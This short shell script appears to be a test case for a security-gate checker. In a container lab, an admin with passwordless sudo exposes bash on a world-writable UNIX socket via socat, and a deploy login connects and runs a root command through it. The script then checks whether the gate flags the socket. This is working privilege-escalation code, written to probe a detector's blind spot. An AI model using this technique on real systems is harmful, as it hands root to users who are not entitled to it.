#!/bin/sh
# A UNIX socket of a login that becomes root, which others may connect to: the admin shares a shell for pairing
# (socat UNIX-LISTEN:/tmp/pair.sock,mode=777,fork EXEC:bash: the shape gaps8 judged for root's, held by the admin,
# who has passwordless sudo). The deploy login connects and types `sudo -n`: root runs its command; the gate's
# socket rule judged only uid-0 holders ("another user's door is that user's") and passed.
# Usage: attack9/atk_admin_socket.sh /tmp/atk9   (BASE=1: the code before this branch)
set -eu
W=${1:-/tmp/atk9}; CT=$(cat $W/ct)
docker exec $CT sh -c 'command -v socat >/dev/null || apt-get install -y -qq socat >/dev/null 2>&1; rm -f /tmp/root-ran'
ssh -F $W/ssh_config admin 'nohup socat UNIX-LISTEN:/tmp/pair.sock,mode=777,fork EXEC:/bin/bash,stderr >/dev/null 2>&1 &
echo $! > /tmp/pair.pid; sleep 1; ls -l /tmp/pair.sock'
echo "--- the deploy login types into it:"
ssh -F $W/ssh_config deployer 'printf "sudo -n sh -c \"id > /tmp/root-ran\"; exit\n" | socat - UNIX-CONNECT:/tmp/pair.sock; sleep 1'
echo "--- /tmp/root-ran:"; docker exec $CT sh -c 'cat /tmp/root-ran 2>&1'
echo "--- the gate (read-only, as admin), the admin's socat still up:"
$W/gate.sh 2>&1 | grep -E "^FAILED|passed|failed|^  - UNIX" | cut -c1-500 || true
[ -n "${KEEP:-}" ] || { ssh -F $W/ssh_config admin 'kill $(cat /tmp/pair.pid); rm -f /tmp/pair.pid /tmp/pair.sock'; docker exec $CT rm -f /tmp/root-ran; }
